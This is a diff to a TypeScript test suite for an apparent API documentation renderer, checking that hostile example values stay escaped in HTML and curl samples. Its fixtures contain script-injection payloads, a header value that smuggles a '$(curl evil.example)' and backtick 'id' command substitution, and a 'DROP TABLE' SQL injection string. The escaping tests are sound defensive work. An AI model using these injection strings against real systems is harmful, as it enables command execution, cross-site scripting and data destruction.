@@ -44,7 +44,8 @@ describe('a hostile spec', () => {
   });
 
   it('keeps examples literal inside <pre>', () => {
-    const examples = byClass(parseHtml(pages[0]!.html), 'ref-example').map(textOf);
+    const tree = parseHtml(pages[0]!.html);
+    const examples = [...byClass(tree, 'ref-example'), ...byClass(tree, 'ref-code-frame')].map(textOf);
     expect(examples.some((t) => t.includes(`"</code></pre><script>alert('example-body')</script>"`))).toBe(true);
     expect(examples.some((t) => t.includes(`<script>alert('exvalue')</script>`))).toBe(true);
   });
@@ -59,8 +60,9 @@ describe('a hostile spec', () => {
   });
 
   it('quotes hostile example values in code samples', () => {
-    const curl = textOf(byClass(parseHtml(pages[0]!.html), 'ref-tab-panel')[0]!);
-    expect(curl).toContain(`-H 'X-Evil: $(curl evil.example) \`id\` '\\''"<script>'`);
+    const panel = byClass(parseHtml(pages[0]!.html), 'ref-tabpanel').find((e) => e.properties.dataTab === 'curl')!;
+    const curl = textOf(byClass(panel as never, 'ref-code')[0]!);
+    expect(curl).toContain(`--header 'X-Evil: $(curl evil.example) \`id\` '\\''"<script>'`);
     expect(curl).toContain(`'\\''; DROP TABLE pets; --`);
   });
 });
